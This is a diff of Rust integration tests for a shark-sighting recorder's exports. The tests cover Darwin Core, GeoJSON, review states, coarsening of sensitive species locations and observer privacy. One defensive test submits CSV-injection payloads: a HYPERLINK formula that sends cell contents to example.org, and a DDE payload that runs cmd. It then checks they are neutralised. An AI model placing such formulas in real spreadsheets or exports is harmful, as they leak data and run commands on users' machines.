@@ -23,8 +23,9 @@ const CATSHARK: &str = "1b2c3d4e-0000-4000-8000-000000000001";
 const ANGELSHARK: &str = "1b2c3d4e-0000-4000-8000-000000000002";
 const UNKNOWN: &str = "1b2c3d4e-0000-4000-8000-000000000003";
 
-/// A catshark with a photo and a length, an angelshark (a sensitive species in the demo
-/// checklist: 0.1°), and a guess the checklist does not know.
+/// A catshark with a photo and a length and an angelshark (a sensitive species in the
+/// demo checklist: 0.1°), both confirmed by a reviewer, and a guess the checklist does
+/// not know, awaiting review.
 async fn app_with_records() -> TestApp {
     let app = spawn_app().await;
     assert_eq!(app.submit(&submission(CATSHARK), &[plain_jpeg(1)]).await.status, 200);
@@ -37,6 +38,8 @@ async fn app_with_records() -> TestApp {
     unknown["species_guess"] = json!("some kind of skate");
     unknown["length"] = Value::Null;
     assert_eq!(app.submit(&unknown, &[]).await.status, 200);
+    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
+    app.confirm(ANGELSHARK, "Squatina squatina", "species").await;
     app
 }
 
@@ -65,7 +68,8 @@ fn term<'a>(row: &'a Value, name: &str) -> &'a str {
 async fn the_archive_reads_back_with_python_dwca_reader_and_uses_only_tdwg_terms() {
     let app = app_with_records().await;
     let dir = tempfile::tempdir().unwrap();
-    let zip = download(&app, "format=dwca", dir.path(), "records.zip").await;
+    // The full export of every state: every field as recorded (public ones below).
+    let zip = download(&app, "format=dwca&audience=full&state=any", dir.path(), "records.zip").await;
     let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
     // TDWG Darwin Core Text Guide: one core, extensions linked by coreid.
     assert_eq!(archive["core_row_type"], format!("{DWC}Occurrence"));
@@ -94,6 +98,7 @@ async fn the_archive_reads_back_with_python_dwca_reader_and_uses_only_tdwg_terms
 
     let catshark = row(&archive, CATSHARK);
     assert_eq!(term(catshark, "scientificName"), "Scyliorhinus canicula");
+    assert_eq!(term(catshark, "identificationVerificationStatus"), "confirmed");
     assert_eq!(term(catshark, "taxonRank"), "species");
     assert_eq!(term(catshark, "verbatimIdentification"), "small-spotted catshark");
     assert_eq!(term(catshark, "eventDate"), "2025-06-01T14:10:00+01:00", "ISO 8601 with offset (TDWG eventDate)");
@@ -101,7 +106,10 @@ async fn the_archive_reads_back_with_python_dwca_reader_and_uses_only_tdwg_terms
     assert_eq!(term(catshark, "geodeticDatum"), "EPSG:4326");
     assert_eq!(term(catshark, "recordedBy"), "Test Observer");
     assert_eq!(term(catshark, "vitality"), "dead");
-    assert!(term(catshark, "associatedMedia").starts_with(&format!("{}/photos/", app.base)));
+    assert!(
+        term(catshark, "associatedMedia").starts_with(&format!("{}/photos/", app.base)),
+        "under the public address"
+    );
     assert!(term(catshark, "organismID").starts_with("organism-"));
     let lengths: Vec<&Value> = catshark["extensions"]
         .as_array()
@@ -118,7 +126,7 @@ async fn the_archive_reads_back_with_python_dwca_reader_and_uses_only_tdwg_terms
 
     let unknown = row(&archive, UNKNOWN);
     assert_eq!(term(unknown, "scientificName"), "");
-    assert!(term(unknown, "identificationRemarks").contains("not on the checklist"));
+    assert!(term(unknown, "identificationRemarks").contains("not resolved to a checklist taxon"));
     let unknown_extensions: Vec<&Value> = unknown["extensions"].as_array().unwrap().iter().collect();
     assert_eq!(unknown_extensions.len(), 1, "no length; its one identification");
     assert_eq!(unknown_extensions[0]["rowtype"], format!("{DWC}Identification"));
@@ -145,6 +153,17 @@ async fn public_exports_generalise_a_sensitive_species_and_say_so() {
     assert_eq!(term(angel, "occurrenceRemarks"), "", "remarks can name the place");
     // Not sensitive: as recorded.
     assert_eq!(term(row(&archive, CATSHARK), "dataGeneralizations"), "");
+    // GBIF metadata profile: the abstract and methods say what the public gets, and the default.
+    let eml = &archive["metadata"];
+    let said = format!("{} {}", eml["abstract"], eml["methods"]);
+    for words in [
+        "Public exports hold confirmed records unless another review state is asked for",
+        "Chapman 2020",
+        "fail closed",
+        "Observers are named in recordedBy only when they agreed",
+    ] {
+        assert!(said.contains(words), "{words}: {said}");
+    }
 }
 
 #[tokio::test]
@@ -189,7 +208,7 @@ async fn the_full_export_from_the_command_line_keeps_positions_as_recorded() {
 async fn geojson_reads_back_as_points_in_longitude_latitude_order() {
     let app = app_with_records().await;
     let dir = tempfile::tempdir().unwrap();
-    let path = download(&app, "format=geojson", dir.path(), "records.geojson").await;
+    let path = download(&app, "format=geojson&state=any", dir.path(), "records.geojson").await;
     let collection = run_script("read_geojson.py", &[&path]);
     assert_eq!(collection["type"], "FeatureCollection");
     let features = collection["features"].as_array().unwrap();
@@ -202,6 +221,9 @@ async fn geojson_reads_back_as_points_in_longitude_latitude_order() {
     assert!((catshark["y"].as_f64().unwrap() - 52.4153).abs() < 1e-9);
     let angel = features.iter().find(|f| f["id"] == format!("urn:uuid:{ANGELSHARK}")).unwrap();
     assert_eq!((angel["x"].as_f64().unwrap(), angel["y"].as_f64().unwrap()), (-4.1, 52.3));
+    // Awaiting review: generalised whatever it is (it may be any species on the checklist).
+    let unknown = features.iter().find(|f| f["id"] == format!("urn:uuid:{UNKNOWN}")).unwrap();
+    assert_eq!((unknown["x"].as_f64().unwrap(), unknown["y"].as_f64().unwrap()), (-4.1, 52.4));
 }
 
 #[tokio::test]
@@ -217,11 +239,17 @@ async fn filters_select_by_taxon_area_date_and_review_state() {
         }
     };
     assert_eq!(count(get("taxon=Squatinidae").await), 1);
-    assert_eq!(count(get("bbox=52.34,-4.2,52.35,-4.1").await), 1);
+    // The angelshark was at 52.3467 N 4.1234 W and is published at 52.3 N 4.1 W (0.1°):
+    // a box is tested on where it is published, not where it was.
+    assert_eq!(count(get("bbox=52.25,-4.15,52.35,-4.05").await), 1, "around its published place");
+    assert_eq!(count(get("bbox=52.34,-4.2,52.35,-4.1").await), 0, "around where it really was");
+    assert_eq!(count(get("bbox=52.34,-4.2,52.35,-4.1&audience=full").await), 1, "as recorded, for reviewers");
     assert_eq!(count(get("from=2025-06-02").await), 0);
-    assert_eq!(count(get("to=2025-06-01").await), 3, "the whole last day counts");
-    assert_eq!(count(get("state=confirmed").await), 0, "new records await review");
-    assert_eq!(count(get("state=awaiting_review").await), 3);
+    assert_eq!(count(get("to=2025-06-01").await), 2, "the whole last day counts");
+    assert_eq!(count(get("to=2025-06-01&state=any").await), 3);
+    assert_eq!(count(get("").await), 2, "public exports default to confirmed records");
+    assert_eq!(count(get("state=confirmed").await), 2);
+    assert_eq!(count(get("state=awaiting_review").await), 1);
     for (query, words) in [
         ("format=dwca&taxon=Felidae", "Felidae"),
         ("format=dwca&bbox=53,0,52,1", "SOUTH"),
@@ -246,7 +274,9 @@ async fn observer_contacts_never_leave_the_server() {
         conn.execute("UPDATE observations SET observer_id = last_insert_rowid()", []).unwrap();
     }
     for format in ["csv", "geojson", "dwca"] {
-        let bytes = app.get(&format!("/api/export?format={format}&state=any")).await.bytes().await.unwrap();
+        // Even the full export, which names observers, never carries a contact.
+        let bytes =
+            app.get(&format!("/api/export?format={format}&audience=full&state=any")).await.bytes().await.unwrap();
         let text = if format == "dwca" { unzip_all(&bytes) } else { String::from_utf8(bytes.to_vec()).unwrap() };
         assert!(text.contains("Test Observer"), "{format}: the display name is there");
         assert!(!text.contains(contact), "{format}: the contact is not");
@@ -302,7 +332,7 @@ fn unzip_all(bytes: &[u8]) -> String {
 async fn range_reads_an_exported_archive_back() {
     let app = app_with_records().await;
     let dir = tempfile::tempdir().unwrap();
-    let zip = download(&app, "format=dwca", dir.path(), "again.zip").await;
+    let zip = download(&app, "format=dwca&state=any", dir.path(), "again.zip").await;
     let output =
         Command::new(env!("CARGO_BIN_EXE_wrackline")).args(["range", "--json", "--from"]).arg(&zip).output().unwrap();
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
@@ -326,7 +356,7 @@ async fn two_reports_of_one_animal_are_one_occurrence_with_the_interval_and_both
         conn.execute("UPDATE observations SET organism_id = (SELECT MIN(organism_id) FROM observations)", []).unwrap();
     }
     let dir = tempfile::tempdir().unwrap();
-    let zip = download(&app, "format=dwca", dir.path(), "merged.zip").await;
+    let zip = download(&app, "format=dwca&audience=full", dir.path(), "merged.zip").await;
     let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
     assert_eq!(archive["rows"].as_array().unwrap().len(), 1, "one row per organism after merges");
     let animal = row(&archive, first);
@@ -379,8 +409,10 @@ async fn walks_export_as_events_with_absences_for_groups_not_found() {
     assert_eq!(app.submit(&submission(UNKNOWN), &[]).await.status, 200, "a record made outside any walk");
 
     let dir = tempfile::tempdir().unwrap();
-    let archive =
-        run_script("read_dwca.py", &[&download(&app, "format=dwca", dir.path(), "events.zip").await, &terms_extract()]);
+    let archive = run_script(
+        "read_dwca.py",
+        &[&download(&app, "format=dwca&state=any", dir.path(), "events.zip").await, &terms_extract()],
+    );
     // TDWG Darwin Core Text Guide: sampling-event data have the Event core with
     // Occurrence (and MeasurementOrFact) as extensions.
     assert_eq!(archive["core_row_type"], format!("{DWC}Event"));
@@ -435,26 +467,68 @@ async fn a_full_export_over_http_is_for_signed_in_reviewers_only() {
 }
 
 #[tokio::test]
-async fn where_a_sensitive_species_was_is_shown_to_signed_in_reviewers_only() {
+async fn the_public_range_is_made_from_published_places_and_reviewers_see_them_as_recorded() {
     let app = spawn_app().await;
     // The angelshark is "tenthDegree" in the demo checklist (Chapman 2020 category).
-    for (i, (lat, lon)) in [(52.41, -4.09), (52.24, -4.26), (52.13, -4.55)].iter().enumerate() {
-        let mut angel = submission(&format!("1b2c3d4e-0000-4000-8000-00000000010{i}"));
+    let recorded = [(52.41, -4.09), (52.24, -4.26), (52.13, -4.57)];
+    for (i, (lat, lon)) in recorded.iter().enumerate() {
+        let id = format!("1b2c3d4e-0000-4000-8000-00000000010{i}");
+        let mut angel = submission(&id);
         angel["species_guess"] = json!("angelshark");
         angel["position"] = json!({"latitude": lat, "longitude": lon, "accuracy_m": 10.0, "source": "device"});
         assert_eq!(app.submit(&angel, &[]).await.status, 200);
+        app.confirm(&id, "Squatina squatina", "species").await;
     }
-    let query = "taxon=Squatina%20squatina&state=any";
+    let query = "taxon=Squatina%20squatina";
     let public: Value =
         app.client.get(format!("{}/api/range?{query}", app.base)).send().await.unwrap().json().await.unwrap();
     let figures = &public["taxa"][0]["periods"][0]["figures"];
     assert!(figures["eoo_km2"].as_f64().unwrap() > 0.0, "the figures are public: {figures}");
-    assert_eq!(figures["eoo"]["hull"], json!([]), "the hull's corners are record positions");
+    // Rounded to 0.1° (Chapman 2020): the hull's corners are the published places.
+    let mut corners: Vec<(f64, f64)> = figures["eoo"]["hull"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| (c["lat"].as_f64().unwrap(), c["lon"].as_f64().unwrap()))
+        .collect();
+    corners.sort_by(|a, b| a.partial_cmp(b).unwrap());
+    assert_eq!(corners, [(52.1, -4.6), (52.2, -4.3), (52.4, -4.1)], "{figures}");
+    assert!(public["records_used"].as_str().unwrap().contains("public positions"), "{public}");
     let map = app.client.get(format!("{}/api/range/map.svg?{query}", app.base)).send().await.unwrap();
-    assert_eq!(map.status(), 403);
+    assert_eq!(map.status(), 200, "the map is drawn from the same published places");
     let reviewer: Value = app.get(&format!("/api/range?{query}")).await.json().await.unwrap();
-    assert_eq!(reviewer["taxa"][0]["periods"][0]["figures"]["eoo"]["hull"].as_array().unwrap().len(), 3);
-    assert_eq!(app.get(&format!("/api/range/map.svg?{query}")).await.status(), 200);
+    let hull = reviewer["taxa"][0]["periods"][0]["figures"]["eoo"]["hull"].as_array().unwrap().clone();
+    assert!(hull.iter().any(|c| c["lat"] == 52.41 && c["lon"] == -4.09), "as recorded for reviewers: {hull:?}");
+}
+
+#[tokio::test]
+async fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_format() {
+    let app = spawn_app().await;
+    let mut record = submission(CATSHARK);
+    record["notes"] = json!("=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
+    record["species_guess"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+    record["observer_name"] = json!("-2+3");
+    assert_eq!(app.submit(&record, &[]).await.status, 200);
+    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
+    // OWASP "CSV Injection": a cell starting with = + - @ (tab, CR) is a formula; a leading ' makes it text.
+    let csv = app.get("/api/export?format=csv&audience=full").await.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
+    assert_eq!(cell("occurrenceRemarks"), "'=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
+    assert_eq!(cell("verbatimIdentification"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("recordedBy"), "'-2+3");
+    assert_eq!(cell("decimalLongitude"), "-4.082900", "a number stays a number");
+    let geojson: Value = app.get("/api/export?format=geojson&audience=full").await.json().await.unwrap();
+    assert_eq!(
+        geojson["features"][0]["properties"]["occurrenceRemarks"],
+        cell("occurrenceRemarks"),
+        "the same in GeoJSON"
+    );
+    let archive = unzip_all(&app.get("/api/export?format=dwca&audience=full").await.bytes().await.unwrap());
+    assert!(archive.contains("\t'=HYPERLINK(") && !archive.contains("\t=HYPERLINK("), "and in the archive's files");
+    assert!(archive.contains("\t'-2+3\t") && archive.contains("\t-4.082900\t"));
 }
 
 #[tokio::test]
